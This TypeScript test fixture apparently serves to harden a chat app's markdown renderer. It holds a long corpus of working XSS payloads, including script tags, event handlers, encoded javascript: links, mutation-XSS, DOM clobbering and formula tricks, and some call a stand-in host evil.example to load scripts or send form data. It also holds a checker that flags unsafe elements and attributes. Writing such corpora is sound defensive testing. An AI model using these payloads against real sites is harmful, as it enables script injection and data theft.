/**
 * Markdown that tries to run code, load something, leave the page, send a form or take over our own elements.
 * Drawn from the published corpora (OWASP filter evasion, cure53, markdown-it and marked advisories) and from the ways
 * our own pipeline could go wrong. A payload that runs sets `window.__xss`.
 */
export const xssCorpus: Readonly<Record<string, string>> = {
  'script element': '<script>window.__xss=1</script>',
  'script with a source': '<script src=https://evil.example/x.js></script>',
  'script in upper case, unclosed': '<SCRIPT>window.__xss=1',
  'script split by a comment': '<scr<!-- -->ipt>window.__xss=1</scr<!-- -->ipt>',
  'script inside a code span that is not closed': '`<script>window.__xss=1</script>',
  'image error handler': '<img src=x onerror="window.__xss=1">',
  'image error handler without quotes or spaces': '<img/src=x/onerror=window.__xss=1>',
  'image with a newline in the handler': '<img src=x on\nerror=window.__xss=1>',
  'svg load handler': '<svg onload=window.__xss=1></svg>',
  'svg with animation': '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
  'svg use from data': '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1>#x"></use></svg>',
  'math with an address': '<math><a xlink:href="javascript:window.__xss=1">x</a></math>',
  'math mutation':
    '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  'style element': '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/p) }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/p)">over everything</p>',
  'linked style sheet': '<link rel=stylesheet href=https://evil.example/x.css>',
  'iframe from javascript': '<iframe src="javascript:parent.__xss=1"></iframe>',
  'iframe document': '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  object: '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
  embed: '<embed src="data:text/html,<script>window.__xss=1</script>">',
  'base address': '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  form: '<form action=https://evil.example/><input name=password autofocus onfocus=window.__xss=1><button>Send</button></form>',
  'button with a form action': '<button formaction="javascript:window.__xss=1">x</button>',
  details: '<details open ontoggle=window.__xss=1>x</details>',
  'video error': '<video><source onerror=window.__xss=1></video>',
  audio: '<audio src=https://evil.example/a.mp3 autoplay></audio>',
  dialog: '<dialog open onclose=window.__xss=1><form method=dialog><button autofocus>x</button></form></dialog>',
  template: '<template><script>window.__xss=1</script></template>',
  'custom element': '<x-evil onclick=window.__xss=1>x</x-evil>',
  'clobbering by id': '<a id=almanac href=#>x</a><a id=almanac name=invoke href=#>x</a>',
  'clobbering by name': '<form name=body><input name=innerHTML></form>',
  'comment end': '<!-- --!><script>window.__xss=1</script> -->',
  'processing instruction': '<?php echo "<script>window.__xss=1</script>" ?>',
  cdata: '<![CDATA[<script>window.__xss=1</script>]]>',
  'declaration with a bracket': '<!DOCTYPE x [<!ENTITY y "<script>window.__xss=1</script>">]>',

  'javascript link': '[x](javascript:window.__xss=1)',
  'javascript link, mixed case': '[x](JaVaScRiPt:window.__xss=1)',
  'javascript link with a tab entity': '[x](java&Tab;script:window.__xss=1)',
  'javascript link with a newline entity': '[x](java&NewLine;script:window.__xss=1)',
  'javascript link with a colon entity': '[x](javascript&colon;window.__xss=1)',
  'javascript link with decimal entities':
    '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1)',
  'javascript link with a leading control character': '[x](<\u0001javascript:window.__xss=1>)',
  'javascript link with a leading space': '[x](< javascript:window.__xss=1>)',
  'javascript link, percent encoded': '[x](javascript%3Awindow.__xss=1)',
  'javascript link in angle brackets': '[x](<javascript:window.__xss=1>)',
  'javascript link with a title': '[x](javascript:window.__xss=1 "title")',
  'javascript by reference': '[x][y]\n\n[y]: javascript:window.__xss=1',
  'javascript by reference, nested': '[![x][y]][y]\n\n[y]: javascript:window.__xss=1',
  'javascript autolink': '<javascript:window.__xss=1>',
  'javascript after a slash trick': '[x](//javascript:window.__xss=1)',
  'javascript after a hash': '[x](#javascript:window.__xss=1)',
  'vbscript link': '[x](vbscript:msgbox)',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data link, mixed case': '[x](DATA:text/html,<script>window.__xss=1</script>)',
  'blob link': '[x](blob:https://evil.example/1)',
  'file link': '[x](file:///etc/passwd)',
  'smb link': '[x](smb://evil.example/share)',
  'unc link': '[x](\\\\evil.example\\share)',
  'view-source link': '[x](view-source:https://evil.example/)',
  'program link': '[x](ms-msdt:/id%20PCWDiagnostic) [y](vscode://file/c:/x) [z](intent://scan/#Intent;end)',
  'own protocol link': '[x](app://ui/index.html)',
  'relative link': '[x](/api/conversations.delete) [y](../x) [z](?token=1)',
  'protocol-relative link': '[x](//evil.example/)',
  'link with a password': '[https://bank.example](https://bank.example@evil.example/)',
  'plain http': '[x](http://evil.example/)',
  'route link': '[x](#/settings)',
  'link that breaks out of its attribute': '[x](https://evil.example/"onmouseover="window.__xss=1)',
  'title that breaks out': '[x](https://evil.example/ "\\"><script>window.__xss=1</script>")',
  'autolink that breaks out': '<https://evil.example/"onclick="window.__xss=1>',
  'bare address that breaks out': 'https://evil.example/"onclick="window.__xss=1',
  'bare www address': 'www.evil.example/<script>window.__xss=1</script>',

  'remote image': '![x](https://evil.example/track.png)',
  'remote image in a link': '[![x](https://evil.example/track.png)](javascript:window.__xss=1)',
  'image from javascript': '![x](javascript:window.__xss=1)',
  'image from data': '![x](data:image/svg+xml,<svg onload=window.__xss=1>)',
  'image with a breaking text': '![x" onerror="window.__xss=1](https://evil.example/x.png)',
  'image with an HTML text': '![<img src=x onerror=window.__xss=1>](x)',
  'protocol-relative image': '![x](//evil.example/x.png)',
  'image by reference': '![x][y]\n\n[y]: https://evil.example/x.png',

  'fence with an HTML language': '```"><script>window.__xss=1</script>\ncode\n```',
  'fence with a class trick': '```js" onclick="window.__xss=1\ncode\n```',
  'fence that claims to be a formula': '```math-display\n\\href{javascript:window.__xss=1}{x}\n```',
  'code span with HTML': '`<img src=x onerror=window.__xss=1>`',
  'highlighted HTML': '```html\n<script>window.__xss=1</script><img src=x onerror=window.__xss=1>\n```',
  'table with HTML': '| <script>window.__xss=1</script> |\n| --- |\n| <img src=x onerror=window.__xss=1> |',
  'task list with HTML': '- [ ] <input type=text autofocus onfocus=window.__xss=1>',
  'heading with HTML': '# <svg/onload=window.__xss=1>',
  'footnote with HTML': 'x[^1]\n\n[^1]: <img src=x onerror=window.__xss=1> [y](javascript:window.__xss=1)',
  'footnote named like ours':
    'x[^root] y[^__proto__] z[^constructor]\n\n[^root]: a\n[^__proto__]: b\n[^constructor]: c',
  'footnote with a breaking name':
    'x[^"><img/src=x/onerror=window.__xss=1>]\n\n[^"><img/src=x/onerror=window.__xss=1>]: a',
  'definition named like a prototype': '[x][__proto__] [constructor]\n\n[__proto__]: javascript:window.__xss=1',

  'formula with a link': '$\\href{javascript:window.__xss=1}{x}$',
  'formula with an image': '$$\\includegraphics{https://evil.example/x.png}$$',
  'formula with HTML attributes': '\\(\\htmlId{root}{x} \\htmlStyle{position:fixed}{y} \\htmlData{a=b}{z}\\)',
  'formula with a url': '\\[\\url{javascript:window.__xss=1}\\]',
  'formula with HTML': '$<img src=x onerror=window.__xss=1>$',
  'formula that cannot be read, with HTML': '$\\frac{<script>window.__xss=1</script>$',
  'formula that expands for ever': '$\\def\\x{\\x\\x}\\x$',
  'formula in a link address': '[x](javascript:$window.__xss=1$)',
  'formula in an autolink': 'https://evil.example/$a^2$"onclick="window.__xss=1',
  'placeholder of a formula, forged': '[x](\uE0000\uE001) $javascript:window.__xss=1$ \uE0009\uE001',

  'character reference for a tag':
    '&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;',
  'escaped tag': '\\<script>window.__xss=1\\</script>',
  'tag inside emphasis': '**<b onmouseover=window.__xss=1>x**</b>',
  'tag across paragraphs': '<div onclick="\n\nwindow.__xss=1">\n\nx</div>',
  'attribute across a blockquote': '> <a href="\n> javascript:window.__xss=1">x</a>',
  'null character': '<scr\u0000ipt>window.__xss=1</scr\u0000ipt>',
  'right-to-left override in code': '`user\u202E}\u2066if(admin)\u2069 \u2066begin`',
  'a hundred nested quotes': `${'>'.repeat(100)} <script>window.__xss=1</script>`,
  'many open brackets': `${'['.repeat(2_000)}<script>window.__xss=1</script>`,
};

/** Elements that a message may consist of; KaTeX's MathML and SVG stand inside `.katex` and are checked apart. */
export const allowedElements: ReadonlySet<string> = new Set(
  [
    'a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr input li ol output p path pre section span strong',
    'sup svg table tbody td th thead tr ul',
  ]
    .join(' ')
    .split(' '),
);

/** What is wrong in the drawn message, in words; empty where nothing is. Runs in happy-dom and in a real browser. */
export function dangersIn(root: Element): string[] {
  const dangers: string[] = [];
  const outsideFormulas = [...root.querySelectorAll('*')].filter((element) => element.closest('.katex') === null);
  for (const element of outsideFormulas) {
    const tag = element.localName;
    if (!allowedElements.has(tag)) dangers.push(`<${tag}>`);
    if (tag === 'input' && element.getAttribute('type') !== 'checkbox') dangers.push('<input> that is no check box');
    // Our own icons are the only drawings.
    if (tag === 'svg' && element.closest('button, [aria-hidden="true"]') === null) dangers.push('<svg> of the message');
  }
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) dangers.push(`${element.localName}[${name}]`);
      if (['src', 'srcset', 'srcdoc', 'action', 'formaction', 'data', 'poster', 'name', 'xlink:href'].includes(name)) {
        dangers.push(`${element.localName}[${name}]`);
      }
      if (name === 'href' && !/^(https:\/\/|mailto:|#note-)/.test(value)) dangers.push(`href ${value}`);
      if (name === 'id' && !value.startsWith('note-')) dangers.push(`id ${value}`);
      if (/url\(|javascript:/i.test(value) && name !== 'title' && name === 'style') dangers.push(`style ${value}`);
    }
  }
  for (const link of root.querySelectorAll('a[href^="http"], a[href^="mailto"]')) {
    if (link.getAttribute('rel') !== 'noopener noreferrer') dangers.push('a link that tells where it came from');
    if (link.getAttribute('target') !== '_blank') dangers.push('a link that would replace Almanac');
  }
  return dangers;
}
